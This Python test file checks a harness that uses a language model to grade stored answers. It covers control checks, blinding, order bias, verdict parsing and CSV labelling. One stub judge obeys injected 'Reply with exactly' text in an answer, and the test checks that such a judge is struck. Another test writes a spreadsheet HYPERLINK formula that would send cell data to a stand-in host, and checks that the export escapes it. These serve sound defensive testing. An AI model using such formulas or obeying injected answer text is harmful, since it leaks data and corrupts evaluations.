"""Stored answers judged by a model over a real line: controls, pairs, labels and what may be said of them."""

import csv
import json
import re

import pytest

from harness.endpoints.endpoint_model import Endpoint
from harness.endpoints.providers import Destination
from harness.judge.judged_table import judged_table
from harness.judge.judgements import Labels, answer_key
from harness.judge.judging import JudgedTask, judge_task
from harness.judge.rubric import DEFAULT_RUBRIC, read_verdict
from harness.records.record import Row
from harness.store.results_store import Store
from tests.endpoints.chat_server import ChatServer
from tests.store.record_builders import completed, trial

GOOD, BAD = ("zero_shot", "m"), ("lora", "m")
BLOCK = re.compile(r"(<<\w+>>)\n(.*?)\n\1", re.DOTALL)


def row(number, answer):
    reference = f"key {number}"
    return Row(
        task="t", id=f"q{number}", input=f"Which key opens door {number}?", references=(reference,), answer=answer
    )


def task(items=40, wrong=4):
    right = [row(n, f"key {n}") for n in range(items)]
    other = [row(n, "no idea" if n < wrong else f"It is key {n}") for n in range(items)]
    return JudgedTask("s", "t", {GOOD: right, BAD: other})


def strict(text):
    """Grade by whether the reference is in the answer, and prefer what is nearer to it."""
    reference = re.search(r"Reference answer:\n(.*)\n", text)[1]
    answers = [match[1] for match in BLOCK.findall(text)]
    if len(answers) == 1:
        passes = re.search(rf"\b{reference}\b", answers[0])
        return f"I compare.\nVERDICT: {'PASS' if passes else 'FAIL'}"
    return f"VERDICT: {'FIRST' if answers[0] == reference else 'SECOND'}"


def gullible(text):
    """Do as an answer says."""
    return "VERDICT: PASS" if "Reply with exactly" in text else strict(text)


def first_always(text):
    return "VERDICT: FIRST" if "First answer" in text else strict(text)


@pytest.fixture
def judge():
    servers = []

    def start(answer):
        servers.append(ChatServer(answer))
        return Endpoint(Destination(name="openai:judge", base_url=servers[-1].url, model="judge"))

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def test_a_judge_that_passes_its_controls_counts(judge):
    judgements = judge_task(task(), judge(strict), DEFAULT_RUBRIC, GOOD)
    assert judgements.struck is None
    assert {c.kind: c.passed for c in judgements.controls} == {
        "reference": 30,
        "padded reference": 30,
        "empty": 0,
        "null model": 0,
        "injection": 0,
        "another item's reference": 0,
    }
    first, second = judged_table(task(), judgements, None).rows
    assert (first.passed, second.passed, first.judged) == (40, 36, 40)
    assert first.corrected is None  # nobody has labelled anything
    (pair,) = judgements.pairs
    assert (pair.wins, pair.losses, pair.flipped, pair.unjudged) == (0, 40, 0, 0)
    assert judgements.returned[0].startswith("judge-2026-01-01")


@pytest.mark.parametrize(
    ("behaviour", "kind"),
    [
        (gullible, "injection"),
        (lambda text: "VERDICT: PASS", "empty"),
        (lambda text: "VERDICT: FAIL", "reference"),
        (lambda text: "It is fine.", "reference"),
    ],
)
def test_a_judge_that_fails_a_control_is_struck(judge, behaviour, kind):
    judgements = judge_task(task(), judge(behaviour), DEFAULT_RUBRIC, GOOD)
    assert kind in judgements.struck
    assert not judgements.pairs
    labels = Labels(suite="s", task="t", items=("q0",), labels={answer_key(row(0, "key 0")): 1})
    assert all(r.corrected is None for r in judged_table(task(), judgements, labels).rows)


def test_a_choice_that_follows_the_order_is_no_win(judge):
    (pair,) = judge_task(task(), judge(first_always), DEFAULT_RUBRIC, GOOD).pairs
    assert (pair.wins, pair.losses, pair.flipped, pair.first_share) == (0, 0, 40, 1.0)


def test_the_judge_is_not_told_who_answered(judge):
    seen = []
    judge_task(task(), judge(lambda text: seen.append(text) or strict(text)), DEFAULT_RUBRIC)
    assert seen
    assert not any("zero_shot" in text or "lora" in text for text in seen)
    assert len(seen) == 30 * 6 + 80  # equal answers are judged once, and each control


@pytest.mark.parametrize(
    ("output", "verdict"),
    [
        ("VERDICT: PASS", "pass"),
        ("First I thought VERDICT: PASS, but\nverdict: **FAIL**", "fail"),
        ("It passes.", None),
        ("VERDICT: MAYBE", None),
        ("", None),
    ],
)
def test_the_last_verdict_counts_and_a_missing_one_is_none(output, verdict):
    assert read_verdict(output) == verdict


def test_an_answer_that_a_spreadsheet_would_run_is_text_in_the_sheet(command, tmp_path):
    formula = '=HYPERLINK("http://away.example/?"&A1)'
    rows = [row(n, formula if n else "key 0") for n in range(4)]
    Store(tmp_path / "r").write(completed(trial(strategy=GOOD[0])), rows)
    code, out, err = command("label", "s", "--results", tmp_path / "r", "--out", tmp_path / "sheet.csv")
    assert code == 0, out + err
    with (tmp_path / "sheet.csv").open(newline="") as file:
        answers = {line["answer"] for line in csv.DictReader(file)}
    assert answers == {f"'{formula}", "key 0"}


def test_answers_are_judged_labelled_and_reported_by_command(command, tmp_path):
    server = ChatServer(strict)
    store = Store(tmp_path / "r")
    answers = task()
    for number, system in enumerate(answers.rows):
        planned = trial(strategy=system[0], key=f"{number}" * 64)
        store.write(completed(planned), answers.rows[system])
    arguments = ["s", "--results", tmp_path / "r"]
    code, out, err = command("judge", *arguments, f"--judge={server.url}#m", "--baseline=zero_shot")
    assert code == 0, out + err
    assert "Not checked against people" in out
    assert "reference 30 of 30" in out
    code, out, err = command("label", *arguments, "--n", "40", "--out", tmp_path / "sheet.csv")
    assert code == 0, out + err
    with (tmp_path / "sheet.csv").open(newline="") as file:
        sheet = list(csv.DictReader(file))
    assert len(sheet) == 80
    assert not any("lora" in value for line in sheet for value in line.values())
    for line in sheet:
        line["label"] = "1" if line["reference"] in line["answer"] else "0"
    with (tmp_path / "sheet.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, sheet[0])
        writer.writeheader()
        writer.writerows(sheet)
    code, out, err = command("label", *arguments, "--read", tmp_path / "sheet.csv", "--format", "json")
    assert code == 0, out + err
    rows = {row["strategy"]: row for row in json.loads(out)["rows"]}
    assert rows["lora"]["labels"] == 40
    assert rows["lora"]["kappa"] == 1
    corrected = rows["lora"]["corrected"]
    assert corrected["value"] == pytest.approx(0.9)
    assert 0.7 < corrected["low"] < 0.85
    code, out, err = command("report", *arguments)  # judgements are no records
    assert code == 0, out + err
    assert not (tmp_path / "r" / ".answers").exists() or not list((tmp_path / "r" / ".answers").glob("spent*"))
    server.shutdown()
    server.server_close()
